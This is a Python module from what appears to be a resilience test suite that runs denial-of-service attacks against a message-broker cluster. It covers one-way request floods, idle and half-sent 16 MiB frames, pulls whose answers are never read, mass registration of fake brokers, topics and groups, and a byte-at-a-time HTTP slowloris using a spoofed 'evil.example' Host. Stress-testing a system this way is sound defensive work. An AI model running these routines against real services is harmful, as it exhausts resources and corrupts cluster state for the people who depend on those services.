"""Attacks on time and room: rows X20 to X23 and X26."""

from __future__ import annotations

import json
import struct
from collections.abc import Iterator
from itertools import count

from tests.attacks.attacker import ONEWAY, Crowd, Run, frame
from tests.attacks.deciding import a_topic, registration
from tests.attacks.messages import a_send

MIB = 1 << 20
FRAME_MAX = 16 * MIB
CHUNK_BYTES = 1 << 14
IDLE_EACH = 70
UNFINISHED_EACH = 40
UNREAD_EACH = 25
READERS_EACH = 200


def _chunked(run: Run, address: str, one: bytes, shots: int) -> None:
    """Many copies of a frame in one write; each is counted."""
    if run.line(address).shoot(one * shots):
        run.tally.sent += shots - 1


def floods(run: Run) -> None:
    """X20: 904, 1004, 105 and 310 one-way, at the rate or as fast as they are taken."""
    target = run.target
    beat = {
        "clusterName": "Nowhere", "brokerName": "nobody", "brokerAddr": "192.0.2.1:1",
        "brokerId": 9, "epoch": 1, "maxOffset": 0, "confirmOffset": 0,
        "heartbeatTimeoutMills": 1000,
    }  # fmt: skip
    ask = {"brokerName": target.broker_name}
    aims = [(at, frame(904, beat, flag=ONEWAY)) for at in target.controllers]
    aims += [(at, frame(1004, ask, flag=ONEWAY)) for at in target.controllers]
    aims += [(at, frame(105, {"topic": target.topic}, flag=ONEWAY)) for at in target.namesrv]
    sending = {
        "a": "flood", "b": "Flooded", "c": "TBW102", "d": 4, "e": 0, "f": 0, "g": 1, "h": 0,
        "i": "", "j": 0, "k": False, "m": False,
    }  # fmt: skip
    aims.append((target.master, frame(310, sending, b"x" * 100, flag=ONEWAY)))
    for number in count():
        if not run.pace():
            break
        address, one = aims[number % len(aims)]
        _chunked(run, address, one, CHUNK_BYTES // len(one))
    run.close()


def idle_slaves(run: Run) -> None:
    """X21: connections to the replication ports that say nothing."""
    with Crowd(run, run.target.ha, IDLE_EACH) as crowd:
        while run.goes_on:
            crowd.fill()
            crowd.look(reads=True)
            run.wait(0.2)


def unfinished_frames(run: Run) -> None:
    """X22: many frames of 16 MiB of which 1 MiB comes, on every port."""
    head = struct.pack(">II", FRAME_MAX - 4, 20)
    with Crowd(run, run.target.servers, UNFINISHED_EACH, head) as crowd:
        left: dict[int, int] = {}
        while run.goes_on:
            crowd.fill()
            for number in crowd.open:
                if left.setdefault(number, MIB) > 0 and run.pace() and number in crowd.open:
                    crowd.say(number, bytes(CHUNK_BYTES * 4))
                    left[number] -= CHUNK_BYTES * 4
            crowd.look(reads=False)
            left = {number: left[number] for number in crowd.open if number in left}
            run.wait(0.05)


def unread_pulls(run: Run) -> None:
    """X22: connections that pull what there is, again and again, and never read an answer."""
    target = run.target
    topic = target.own_topic if target.access_key else target.topic
    with Crowd(run, target.brokers, UNREAD_EACH) as crowd:
        while run.goes_on:
            crowd.fill()
            for number in crowd.open:
                if not run.pace():
                    break
                fields = {
                    "consumerGroup": target.own_group, "topic": topic,
                    "queueId": number % 4, "queueOffset": 0, "maxMsgNums": 1024, "sysFlag": 4,
                    "commitOffset": 0, "suspendTimeoutMillis": 100, "subscription": "*",
                    "subVersion": 0, "expressionType": "TAG",
                }  # fmt: skip
                if number in crowd.open:
                    crowd.say(number, frame(11, fields) * 8)
            crowd.look(reads=False)


def ghosts(run: Run) -> None:
    """X23: brokers, topics, groups and KV keys that nobody needs, each with a name of its own."""
    target = run.target

    def shots() -> Iterator[tuple[str, bytes]]:
        for number in count():
            name, address = f"ghost-{number}", f"192.0.2.{number % 250}:{1 + number % 60_000}"
            who = {"clusterName": target.cluster_name, "brokerName": name}
            for at in target.namesrv:
                topics = {**a_topic(f"gt-{number}"), **a_topic(f"gu-{number}")}
                yield at, registration(name, target.cluster_name, address, 0, topics)
                kv = {"namespace": "ghosts", "key": name, "value": "v" * 100}
                yield at, frame(100, kv)
            for at in target.controllers:
                yield at, frame(1012, who)
                apply = {**who, "appliedBrokerId": 1, "registerCheckCode": f"c{number}"}
                yield at, frame(1013, apply)
                yield at, frame(1003, {**who, "brokerId": 1, "brokerAddress": address})
            new = {
                "topic": f"gm-{number}", "defaultTopic": "TBW102", "readQueueNums": 4,
                "writeQueueNums": 4, "perm": 6, "topicFilterType": "SINGLE_TAG",
                "topicSysFlag": 0, "order": False,
            }  # fmt: skip
            yield target.master, frame(17, new)
            yield target.master, a_send(f"gs-{number}", "", b"x")
            yield target.master, frame(200, {}, json.dumps({"groupName": f"gg-{number}"}).encode())

    run.fire(shots())


def slow_readers(run: Run) -> None:
    """X26: the HTTP pages, asked a byte at a time by a crowd, and under another host's name."""
    begin = b"GET / HTTP/1.1\r\nHost: evil.example\r\nX-Slow: "
    with Crowd(run, run.target.http, READERS_EACH, begin) as crowd:
        while run.goes_on:
            crowd.fill()
            for number in crowd.open:
                if not run.pace():
                    break
                if number in crowd.open:
                    crowd.say(number, b"a")
            crowd.look(reads=True)
